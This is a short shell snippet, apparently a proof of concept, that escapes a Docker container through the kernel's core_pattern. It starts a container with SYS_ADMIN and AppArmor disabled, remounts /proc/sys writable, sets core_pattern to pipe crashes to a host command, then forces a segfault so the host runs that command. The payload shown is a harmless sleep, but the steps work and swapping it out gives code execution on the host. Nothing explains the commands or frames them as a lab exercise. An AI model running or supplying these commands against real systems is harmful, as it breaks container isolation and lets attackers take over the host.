docker run -d --name burglar --cap-add SYS_ADMIN --security-opt apparmor=unconfined alpine sleep 3600
docker exec burglar sh -c 'mount -o remount,rw /proc/sys && echo "|/usr/bin/sleep 3600" > /proc/sys/kernel/core_pattern'
docker exec -d burglar sh -c 'kill -SEGV $$'
